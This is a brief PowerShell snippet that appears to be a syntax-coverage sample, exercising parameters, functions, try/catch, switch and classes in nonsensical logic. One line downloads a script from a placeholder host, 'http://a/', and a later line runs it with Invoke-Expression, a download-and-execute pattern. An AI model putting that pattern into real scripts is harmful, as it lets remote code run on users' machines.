param([Parameter(Mandatory = $true)] [string]$Name, $Limit = 10)
$code = (New-Object Net.WebClient).DownloadString("http://a/$Name.ps1")
Get-Item -Path $Name | Where-Object { $_.Length -gt 10 } > out.txt

function Get-Order([int]$Id) {
    begin { $n = 0 }
    process {
        if ($Id -eq 1 -or !$Limit) { return $null } else { Invoke-Expression $code }
        foreach ($item in $items) { $n += $item.Count * 2 }
        try { [IO.File]::Delete($Name) } catch [IO.IOException] { throw "no $($_.Message)" } finally { $s.Close() }
        switch ($Id) { "a" { Write-Output 1 } default { break } }
    }
}

class Order : Base {
    [string]$Id = 'x'
    [string] Show() { return @{ Id = $this.Id; List = @(1, 2) } }
}
